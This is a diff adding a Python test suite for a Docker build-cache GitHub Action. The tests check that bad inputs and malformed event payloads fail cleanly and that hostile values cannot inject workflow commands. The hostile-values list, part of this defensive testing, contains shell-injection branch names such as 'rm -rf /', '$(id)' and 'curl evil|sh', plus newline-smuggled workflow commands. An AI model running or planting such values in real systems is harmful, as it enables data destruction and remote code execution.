@@ -1,0 +1,428 @@
+"""Bad input never reaches docker: main() returns 1 with one `::error::` that names the input (or
+GITHUB_EVENT_PATH) and what is accepted. Hostile but valid values (odd branch names, unknown events) get a
+correct and safe classification, and nothing they contain can turn into a workflow command.
+
+The unit tier forbids starting processes (tests/unit/conftest.py), so an error returned here is proof that
+it came before any docker command. For valid input, ``_build`` (the first step that runs docker) is replaced
+by a stub that records the decision and stops the run.
+"""
+
+from __future__ import annotations
+
+import json
+import string
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+import regcache.main
+from regcache.build_kind import KINDS, classify
+from regcache.cache_plan import plan_cache
+from regcache.cache_refs import branch_tag
+from regcache.errors import RegcacheError
+from regcache.main import main
+from regcache.settings import TAG_RE, load_settings
+from tests.support import events
+
+ABSENT = object()   # no GITHUB_EVENT_PATH at all
+PUSH_AUTO = events.push("auto")
+FORK_PR = events.pull_request(head_repo="contributor/rust")
+DIGEST = "sha256:" + "a" * 64
+# Workflow commands regcache itself prints; any other `::` line on stdout was injected.
+OWN_COMMANDS = ("::add-mask::", "::group::", "::endgroup::", "::error", "::warning")
+INJECTED = "::notice title=injected::INJECTED"
+
+
+@dataclass
+class Case:
+    id: str
+    inputs: dict[str, str] = field(default_factory=dict)
+    event: str = "push"
+    payload: Any = field(default_factory=lambda: PUSH_AUTO)   # dict/list: JSON; bytes/str: raw; callable(path)
+    ref: str | None = None          # GITHUB_REF; None: the payload's ref for a push
+    env: dict[str, str] = field(default_factory=dict)
+    names: str = ""                 # what the error must name, e.g. "input 'cache-mode'" or "GITHUB_EVENT_PATH"
+    accepted: str = ""              # and what it must say is accepted
+    xfail: str = ""                 # what src lacks, if this case fails today
+
+
+def _sparse(size: int):
+    def write(path: Path) -> None:
+        with open(path, "wb") as f:
+            f.truncate(size)
+    return write
+
+
+def _input(name: str, value: str, accepted: str, xfail: str = "") -> Case:
+    return Case(f"{name}={value[:24]!r}", inputs={name: value}, names=f"input '{name}'", accepted=accepted,
+                xfail=xfail)
+
+
+def _payload(id_: str, payload: Any, accepted: str, event: str = "push", ref: str | None = "",
+             xfail: str = "", names: str = "GITHUB_EVENT_PATH") -> Case:
+    return Case(id_, event=event, payload=payload, ref=ref, names=names, accepted=accepted, xfail=xfail)
+
+
+
+BAD: list[Case] = [
+    # modes and booleans
+    _input("cache-mode", "maximum", "max | min"),
+    _input("cache-mode", "Max", "max | min"),
+    _input("cache-compression", "lz4", "zstd | gzip | estargz | uncompressed"),
+    _input("pr-cache", "write", "read | off"),
+    _input("other-cache", "write", "read | read-write | off"),
+    _input("load", "yes", "true | false"),
+    _input("push", "1", "true | false"),
+    _input("fail-on-cache-error", "on", "true | false"),
+    _input("reuse-image", "maybe", "true | false"),
+    _input("load", "true\x00", "true | false"),
+    # references
+    _input("cache-image", "ghcr.io/Owner/Repo-cache", "lowercase repository"),
+    _input("cache-image", "ghcr.io/owner/my cache", "lowercase repository"),
+    _input("cache-image", f"ghcr.io/owner/cache@{DIGEST}", "without tag or digest"),
+    _input("cache-image", "ghcr.io/owner/cache:latest", "without tag or digest"),
+    _input("cache-image", "https://ghcr.io/owner/cache", "lowercase repository"),
+    _input("cache-image", f"ghcr.io/owner/cache\n{INJECTED}", "lowercase repository"),
+    _input("image-repository", "Ghcr.io/Owner/App", "lowercase repository"),
+    _input("cache-from", "ghcr.io/owner/cache", "with a tag"),
+    _input("cache-from", f"ghcr.io/owner/cache:main@{DIGEST}", "with a tag"),
+    _input("tags", "ghcr.io/Owner/App:1", "image references"),
+    _input("tags", "app:tag with space", "image references"),
+    _input("tags", "app:", "image references"),
+    _input("buildkit-image", "moby/BuildKit:latest", "image reference"),
+    _input("cache-key", "has space", "at most 128"),
+    _input("cache-key", "-leading-dash", "at most 128"),
+    _input("cache-key", "k" * 129, "at most 128"),
+    _input("cache-key", "clé-unicode", "at most 128"),
+    # build args, labels, platforms, single lines, paths
+    _input("build-args", "NO_EQUALS_SIGN", "KEY=VALUE"),
+    _input("build-args", "=value", "KEY=VALUE"),
+    _input("build-args", "KEY WITH SPACE=1", "KEY=VALUE"),
+    _input("build-args", "A=1\nB", "KEY=VALUE"),
+    _input("labels", "just-text", "KEY=VALUE"),
+    _input("platforms", "Linux/AMD64", "os/arch"),
+    _input("platforms", "amd64", "os/arch"),
+    _input("target", "builder\nfinal", "one line"),
+    _input("cache-version", "1\r2", "one line"),
+    _input("context", "does/not/exist", "a directory"),
+    _input("context", "Dockerfile", "a directory"),
+    _input("file", "missing/Dockerfile", "a Dockerfile path"),
+    # huge and binary values
+    _input("cache-key", "x" * 1_000_000, "at most 128"),
+    _input("cache-mode", "".join(map(chr, range(1, 256))), "max | min"),
+    _input("build-args", bytes(range(256)).decode("latin-1").replace("=", ""), "KEY=VALUE"),
+    # event payloads
+    _payload("payload-not-json", b"{not json", "a webhook event payload"),
+    _payload("payload-binary", b"\xff\xfe\x00\x01binary", "a webhook event payload"),
+    _payload("payload-empty", b"", "a webhook event payload"),
+    _payload("payload-list", [1, 2], "a JSON object"),
+    _payload("payload-null", None, "a JSON object"),
+    _payload("payload-json-string", '"just a string"', "a JSON object"),
+    _payload("payload-bom", "\ufeff" + json.dumps(PUSH_AUTO), "a webhook event payload"),
+    _payload("payload-over-25MB", _sparse(26 * 1024 * 1024), "a webhook event payload"),
+    _payload("payload-deeply-nested", "[" * 100_000 + "]" * 100_000, "a webhook event payload"),
+    _payload("payload-huge-integer", '{"ref": "refs/heads/auto", "x": ' + "9" * 5000 + "}",
+             "a webhook event payload"),
+    _payload("payload-path-missing", lambda path: None, "accepted"),
+    _payload("payload-path-is-a-directory", lambda path: path.mkdir(), "accepted"),
+    Case("no-GITHUB_EVENT_PATH-in-actions", payload=ABSENT, names="GITHUB_EVENT_PATH",
+         accepted="the event payload's JSON file"),
+    # payloads without what their kind needs
+    _payload("pull_request-without-pull_request", {"action": "opened", "number": 1}, "accepted",
+             event="pull_request"),
+    _payload("pull_request-with-string-pull_request", {"number": 1, "pull_request": "#1"}, "accepted",
+             event="pull_request"),
+    _payload("pull_request_target-without-pull_request", {"number": 1}, "accepted",
+             event="pull_request_target"),
+    _payload("push-without-ref", {k: v for k, v in PUSH_AUTO.items() if k != "ref"}, "accepted"),
+    _payload("push-with-numeric-ref", {**PUSH_AUTO, "ref": 42}, "accepted"),
+]
+
+
+def _env(ws: Path, case: Case) -> dict[str, str]:
+    env = {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": case.event, "GITHUB_REPOSITORY": "rust-lang/rust",
+           "GITHUB_ACTOR": "bors", "GITHUB_WORKSPACE": str(ws)}
+    payload = case.payload
+    if payload is not ABSENT:
+        path = ws.parent / "event.json"
+        if callable(payload):
+            payload(path)
+        elif isinstance(payload, bytes):
+            path.write_bytes(payload)
+        elif isinstance(payload, str):
+            path.write_text(payload, encoding="utf-8")
+        else:
+            path.write_text(json.dumps(payload))
+        env["GITHUB_EVENT_PATH"] = str(path)
+    ref = case.ref
+    if ref is None:
+        ref = payload.get("ref", "") if isinstance(payload, dict) and case.event == "push" else ""
+    env["GITHUB_REF"] = ref
+    env.update({f"INPUT_{k.upper()}": v for k, v in case.inputs.items()})
+    env.update(case.env)
+    return env
+
+
+@pytest.fixture
+def ws(tmp_path: Path) -> Path:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "Dockerfile").write_text("FROM scratch\nCOPY app.txt /app.txt\n")
+    (ws / "app.txt").write_text("app\n")
+    return ws
+
+
+class ReachedDocker(Exception):
+    """The stub for main._build: validation passed and the run would now start docker."""
+
+
+@pytest.fixture
+def decisions(monkeypatch) -> list:
+    """Replace main._build (the first step that runs docker); collect the Outcome it was given."""
+    seen = []
+
+    def stub(s, log, o, cleanup):
+        seen.append(o)
+        raise ReachedDocker()
+
+    monkeypatch.setattr(regcache.main, "_build", stub)
+    return seen
+
+
+def _check_commands(out: str) -> None:
+    for line in out.splitlines():
+        if line.startswith("::"):
+            assert line.startswith(OWN_COMMANDS), f"an injected workflow command: {line[:200]!r}"
+
+
+def _params(cases: list[Case]):
+    return [pytest.param(c, id=c.id, marks=[pytest.mark.xfail(strict=True, reason=c.xfail)] if c.xfail else [])
+            for c in cases]
+
+
+@pytest.mark.parametrize("case", _params(BAD))
+def test_bad_input_is_one_error_before_any_docker_command(ws, capsys, decisions, case):
+    try:
+        code = main([], _env(ws, case))
+    except ReachedDocker:
+        pytest.fail(f"accepted: the run went on to docker as a {decisions[0].kind.kind!r} build "
+                    f"({decisions[0].kind.reason})")
+    out, err = capsys.readouterr()
+    assert code == 1
+    errors = [line for line in out.splitlines() if line.startswith("::error")]
+    assert len(errors) == 1, out[-2000:]
+    assert case.names in errors[0], errors[0][:500]
+    assert case.accepted in errors[0], errors[0][:500]
+    assert "Traceback" not in out + err
+    _check_commands(out)
+
+
+def test_a_huge_value_is_quoted_briefly(ws, capsys, decisions):
+    """A 1 MB value gives a readable error, not a 1 MB annotation."""
+    case = _input("cache-key", "x" * 1_000_000, "at most 128")
+    assert main([], _env(ws, case)) == 1
+    error = next(line for line in capsys.readouterr().out.splitlines() if line.startswith("::error"))
+    assert len(error) < 4096, f"the error annotation is {len(error)} characters long"
+
+
+# -- hostile but valid: a correct, safe classification --------------------------------------------------
+
+@dataclass
+class Hostile:
+    id: str
+    event: str
+    payload: Any
+    ref: str | None
+    kind: str
+    write: bool
+    inputs: dict[str, str] = field(default_factory=dict)
+    fork: bool = False
+    xfail: str = ""
+
+
+def _push(ref: str, *, via_payload: bool = False, **kw) -> Hostile:
+    payload = {**PUSH_AUTO, "ref": ref}
+    return Hostile(f"push {ref!r}{' (payload)' if via_payload else ''}", "push", payload,
+                   "" if via_payload else ref, **kw)
+
+
+
+HOSTILE: list[Hostile] = [
+    _push("refs/heads/auto;rm -rf /", kind="other", write=False),
+    _push("refs/heads/$(id)", kind="other", write=False),
+    _push("refs/heads/`id`", kind="other", write=False),
+    _push("refs/heads/auto && curl evil|sh", kind="other", write=False),
+    _push("refs/heads/try\u200b", kind="other", write=False),
+    _push("refs/heads/Auto", kind="other", write=False),
+    _push("refs/heads/ auto", kind="other", write=False),
+    _push("refs/heads/auto/../try", kind="other", write=False),
+    _push("refs/heads/élan/ünïcödé-分支-🚀", kind="other", write=False),
+    _push(f"refs/heads/auto\n{INJECTED}", via_payload=True, kind="other", write=False),
+    _push("refs/heads/", kind="other", write=False),
+    _push("refs/tags/auto", kind="other", write=False),
+    _push("refs/pull/1/merge", kind="other", write=False),
+    _push("refs/heads/automation/bors/auto", kind="auto", write=True),
+    _push("refs/heads/$(id)", kind="try", write=True, inputs={"try-branches": "$(id)\ntry"}),
+    _push("refs/heads/try", kind="other", write=False, inputs={"try-branches": "try;echo pwned\n$(id)"}),
+    Hostile("GITHUB_REF wins over the payload ref", "push", PUSH_AUTO, "refs/heads/main", "other", False),
+    Hostile("event PUSH", "PUSH", PUSH_AUTO, "refs/heads/auto", "other", False),
+    Hostile("event 'push '", "push ", PUSH_AUTO, "refs/heads/auto", "other", False),
+    Hostile("unknown event", "totally_new_event", {"action": "x"}, "refs/heads/auto", "other", False),
+    Hostile("unknown event, read-write", "totally_new_event", {}, "", "other", True,
+            inputs={"other-cache": "read-write"}),
+    Hostile("pull_request with empty pull_request", "pull_request", {"number": 7, "pull_request": {}},
+            "refs/pull/7/merge", "pr", False, inputs={"other-cache": "read-write"}, fork=True),
+    Hostile("fork pull_request_target, read-write", "pull_request_target", FORK_PR, "refs/heads/main", "pr",
+            False, inputs={"other-cache": "read-write"}, fork=True),
+    Hostile("fork pull_request_review, read-write", "pull_request_review", FORK_PR, "refs/pull/42/merge",
+            "other", False, inputs={"other-cache": "read-write"}, fork=True),
+    Hostile("merge_group with an empty payload", "merge_group", {}, "", "auto", True),
+    Hostile("event name with a newline", f"push\n{INJECTED}", PUSH_AUTO, "refs/heads/auto", "other", False),
+    Hostile("pull request number with a newline", "pull_request", {**FORK_PR, "number": f"1\n{INJECTED}"},
+            "refs/pull/1/merge", "pr", False, fork=True),
+    Hostile("pull request number, a lone surrogate", "pull_request", {**FORK_PR, "number": "\ud800"},
+            "refs/pull/1/merge", "pr", False, fork=True),
+]
+
+
+@pytest.mark.parametrize("case", [
+    pytest.param(c, id=c.id, marks=[pytest.mark.xfail(strict=True, reason=c.xfail)] if c.xfail else [])
+    for c in HOSTILE])
+def test_hostile_but_valid_values_are_classified_safely(ws, capsys, decisions, case):
+    env = _env(ws, Case(case.id, inputs={"github-token": "tok-123", **case.inputs}, event=case.event,
+                        payload=case.payload, ref=case.ref))
+    with pytest.raises(ReachedDocker):
+        main([], env)
+    out, err = capsys.readouterr()
+    (o,) = decisions
+    assert (o.kind.kind, o.plan.write, o.kind.fork) == (case.kind, case.write, case.fork), o.kind.reason
+    assert not [line for line in out.splitlines() if line.startswith("::error")], out
+    _check_commands(out)
+
+
+# -- properties ----------------------------------------------------------------------------------------------
+
+EVENT_NAMES = st.one_of(
+    st.sampled_from(["push", "pull_request", "pull_request_target", "merge_group", "workflow_dispatch",
+                     "schedule", "pull_request_review", "issue_comment", "", "PUSH", "push "]),
+    st.text(max_size=20),
+)
+REFS = st.one_of(st.sampled_from(["", "refs/heads/auto", "refs/heads/try", "refs/heads/main", "refs/tags/v1",
+                                  "refs/pull/1/merge", "refs/heads/"]), st.text(max_size=30))
+LEAVES = st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**63), st.floats(allow_nan=False),
+                   st.text(max_size=20), st.sampled_from(["refs/heads/auto", "rust-lang/rust", "contributor/rust"]))
+JSON = st.recursive(LEAVES, lambda inner: st.one_of(st.lists(inner, max_size=4),
+                                                    st.dictionaries(st.text(max_size=12), inner, max_size=4)),
+                    max_leaves=25)
+KEYS = st.sampled_from(["ref", "number", "pull_request", "head", "base", "repo", "full_name", "repository",
+                        "merge_group", "base_ref", "action"])
+
+
+@st.composite
+def realistic(draw) -> Any:
+    """A real webhook payload with a few values replaced by anything, or removed."""
+    payload = json.loads(json.dumps(draw(st.sampled_from([
+        events.push("auto"), events.push("try"), events.pull_request(), FORK_PR,
+        events.pull_request(head_repo=None), events.merge_group(), events.workflow_dispatch(), events.schedule(),
+    ]))))
+    for _ in range(draw(st.integers(0, 4))):
+        node, keys = payload, []
+        while isinstance(node, dict) and node and draw(st.booleans()):
+            key = draw(st.sampled_from(sorted(node)))
+            keys.append(key)
+            if not isinstance(node[key], dict):
+                break
+            node = node[key]
+        target = payload
+        for key in keys[:-1]:
+            target = target[key]
+        name = keys[-1] if keys else draw(KEYS)
+        if isinstance(target, dict):
+            if draw(st.booleans()):
+                target[name] = draw(JSON)
+            else:
+                target.pop(name, None)
+    return payload
+
+
+PAYLOADS = st.one_of(realistic(), JSON, st.dictionaries(KEYS, JSON, max_size=5))
+
+
+def _payload_env(ws: Path, name: str, ref: str, payload: Any, extra: dict[str, str] | None = None) -> dict:
+    path = ws.parent / "event.json"
+    path.write_text(json.dumps(payload))
+    return {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": name, "GITHUB_REF": ref, "GITHUB_EVENT_PATH": str(path),
+            "GITHUB_REPOSITORY": "rust-lang/rust", "GITHUB_WORKSPACE": str(ws), **(extra or {})}
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(name=EVENT_NAMES, ref=REFS, payload=PAYLOADS,
+       other_cache=st.sampled_from(["read", "read-write", "off"]))
+@example(name="pull_request", ref="", payload={"pull_request": None}, other_cache="read-write")
+@example(name="pull_request", ref="", payload={"pull_request": {"head": {"repo": []}, "base": 1}},
+         other_cache="read")
+@example(name="issue_comment", ref="", payload={"pull_request": {"head": {"repo": {"full_name": 3}}}},
+         other_cache="read-write")
+@example(name="push", ref="", payload={"ref": ["refs/heads/auto"]}, other_cache="read")
+def test_any_payload_classifies_or_is_an_event_error(ws, name, ref, payload, other_cache):
+    env = _payload_env(ws, name, ref, payload, {"INPUT_OTHER-CACHE": other_cache, "INPUT_GITHUB-TOKEN": "t"})
+    try:
+        s = load_settings(env)
+        kind = classify(s.event, s.try_branches, s.auto_branches)
+        plan = plan_cache(kind, pr_cache=s.pr_cache, other_cache=s.other_cache, has_token=True)
+    except RegcacheError:
+        return
+    assert kind.kind in KINDS and isinstance(kind.reason, str) and kind.reason
+    # Trust: only the runner's event name and ref make a writing kind, and a fork never writes.
+    if kind.kind == "try":
+        assert name == "push" and (ref or payload.get("ref")) == f"refs/heads/{kind.branch}"
+        assert kind.branch in s.try_branches
+    if kind.kind == "auto":
+        assert name == "merge_group" or (name == "push" and kind.branch in s.auto_branches)
+    if kind.kind == "pr":
+        assert name in ("pull_request", "pull_request_target") and not plan.write
+    if kind.fork:
+        assert not plan.write
+
+
+# Lone surrogates are left out here: printing them is a known failure, pinned by a HOSTILE case above.
+SAFE_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20)
+SAFE_JSON = st.recursive(
+    st.one_of(st.none(), st.booleans(), st.integers(-1000, 1000), SAFE_TEXT),
+    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(SAFE_TEXT, inner, max_size=3)),
+    max_leaves=15)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(name=st.one_of(st.sampled_from(["push", "pull_request", "merge_group", "schedule"]),
+                      st.text(alphabet=string.ascii_letters + "_", max_size=12)),
+       ref=REFS.filter(lambda r: "\x00" not in r), payload=st.one_of(realistic(), SAFE_JSON))
+def test_main_on_any_payload_errors_cleanly_or_gets_to_docker(ws, capsys, monkeypatch, name, ref, payload):
+    reached = []
+
+    def stub(s, log, o, cleanup):
+        reached.append(o)
+        raise ReachedDocker()
+
+    monkeypatch.setattr(regcache.main, "_build", stub)
+    env = _payload_env(ws, name, ref.replace("\n", ""), payload)
+    try:
+        code = main([], env)
+    except ReachedDocker:
+        code = None
+    out, _ = capsys.readouterr()
+    errors = [line for line in out.splitlines() if line.startswith("::error")]
+    if code is None:
+        assert reached and not errors
+    else:
+        assert code == 1 and len(errors) == 1 and "event" in errors[0].lower(), out
+
+
+@given(branch=st.text(max_size=300), slug=st.sampled_from(["dockerfile", "ci-docker-x86-64-linux", "d" * 100]))
+def test_a_branch_fallback_tag_is_always_a_valid_tag(branch, slug):
+    tag = branch_tag(slug, branch)
+    assert TAG_RE.match(tag) and len(tag) <= 128, tag
